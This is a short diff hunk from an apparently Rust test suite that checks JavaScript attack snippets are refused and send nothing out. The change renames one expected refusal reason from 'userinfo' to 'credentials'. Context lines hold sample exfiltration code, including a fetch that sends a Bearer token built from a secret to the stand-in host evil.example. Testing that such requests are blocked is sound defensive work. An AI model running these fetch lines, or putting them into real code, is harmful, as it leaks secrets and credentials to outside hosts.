@@ -208,7 +208,7 @@ async fn attacks_written_in_javascript_are_refused_and_send_nothing() {
         ),
         (
             "await fetch(`https://u:${p}@127.0.0.1:${args.PORT}/v1/x`);",
-            "userinfo",
+            "credentials",
         ),
         (
             "await fetch('https://evil.example/', {headers: {Authorization: 'Bearer ' + p}});",
